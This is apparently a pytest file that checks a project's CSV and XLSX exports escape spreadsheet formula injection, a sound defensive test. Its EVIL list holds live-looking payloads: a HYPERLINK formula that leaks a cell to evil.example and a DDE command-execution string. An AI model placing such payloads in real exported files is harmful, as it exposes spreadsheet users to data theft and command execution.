"""Issue 11, finding 5: cells stay text. In every CSV and XLSX that export and recap write, a value
starting with = + - @ tab or CR cannot run as a formula (the OWASP CSV-injection rule), and numbers
stay numbers — a negative number too. Checked by reading the files back (csv; openpyxl for XLSX types)."""
from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from controlroom.clock import ManualClock
from controlroom.journal import Journal, Sample
from controlroom.paths import SAMPLE_SHOW

ROOT = Path(__file__).resolve().parents[3]
EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
        "=cmd|' /C calc'!A0"]


def _journal(data: Path) -> int:
    j = Journal(data / Journal.FILENAME, clock=ManualClock())
    sid = j.new_session(EVIL[0], {"kind": "show", "show_dir": str(data.parent / "show")})
    j.start_session(sid)
    for i, who in enumerate(EVIL):
        j.append(sid, "console.price_changed", who, {"sku": "LIP-001", "price": 5900 + i, "prev_price": 6900,
                                                    "supervisor": who})
    j.append_samples(sid, [Sample("gmv", -500), Sample("orders", 3), Sample("sku.orders", 2, sku="LIP-001")])
    j.end_session(sid)
    j.close()
    return sid


def _export(data: Path, fmt: str, out: Path) -> None:
    p = subprocess.run([sys.executable, str(ROOT / "main.py"), "export", "--format", fmt, "--out", str(out),
                        "--data-dir", str(data)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr


def _runs(value: str) -> bool:
    return value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_export_csv_cells_never_start_a_formula(tmp_path):
    data = tmp_path / "data"
    _journal(data)
    _export(data, "csv", tmp_path / "out")
    for f in sorted((tmp_path / "out").glob("*.csv")):
        with open(f, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        header = rows[0]
        for row in rows[1:]:
            for name, value in zip(header, row):
                if name in ("value", "mono", "seq", "session_id", "id"):
                    continue
                assert not _runs(value), (f.name, name, value)
    events = list(csv.DictReader(open(tmp_path / "out" / "journal_events.csv", encoding="utf-8-sig", newline="")))
    actors = [e["actor"] for e in events if e["kind"] == "console.price_changed"]
    assert actors == ["'" + v for v in EVIL]          # the text is all there, behind an apostrophe
    sessions = list(csv.DictReader(open(tmp_path / "out" / "journal_sessions.csv", encoding="utf-8-sig")))
    assert sessions[0]["title"] == "'" + EVIL[0]
    samples = list(csv.DictReader(open(tmp_path / "out" / "journal_samples.csv", encoding="utf-8-sig")))
    assert [s["value"] for s in samples][:1] == ["-500"]   # a negative number stays a number


def test_export_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(tmp_path):
    data = tmp_path / "data"
    _journal(data)
    _export(data, "xlsx", tmp_path / "out")
    wb = openpyxl.load_workbook(tmp_path / "out" / "journal.xlsx")
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and _runs(c.value):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    seen.append(c.value)
    assert set(EVIL) <= set(seen)
    samples = wb["samples"]
    header = [c.value for c in samples[1]]
    values = [r[header.index("value")].value for r in samples.iter_rows(min_row=2)]
    assert values[0] == -500 and samples.cell(2, header.index("value") + 1).data_type == "n"


def test_recap_xlsx_cells_are_text_not_formulas(tmp_path):
    from controlroom.recap.report import build_recap
    from controlroom.recap.workbook import write_xlsx
    show = tmp_path / "show"
    shutil.copytree(SAMPLE_SHOW, show)
    text = (show / "products.csv").read_text(encoding="utf-8")
    (show / "products.csv").write_text(text.replace("丝绒雾面口红 Velvet Matte Lipstick", "=1+2 Lipstick"),
                                       encoding="utf-8")
    data = tmp_path / "data"
    sid = _journal(data)
    j = Journal(data / Journal.FILENAME)
    try:
        path = write_xlsx(build_recap(j, sid), tmp_path / "recap.xlsx")
    finally:
        j.close()
    wb = openpyxl.load_workbook(path)
    risky = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and _runs(c.value):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
                    risky.append(c.value)
    assert "=1+2 Lipstick" in risky and EVIL[0] in risky
    changes = wb["price_changes"]
    header = [c.value for c in changes[1]]
    to_fen = changes.cell(2, header.index("to_fen") + 1)
    assert to_fen.data_type == "n" and to_fen.value == 5900


@pytest.mark.parametrize("value, runs", [("=1", True), ("-5", False), ("-1+2", True), ("+3.5", False),
                                          ("@x", True), ("\tx", True), ("abc", False), ("", False)])
def test_the_rule(value, runs):
    from controlroom.cells import csv_text, runs_as_formula
    assert runs_as_formula(value) is runs
    assert csv_text(value) == ("'" + value if runs else value)
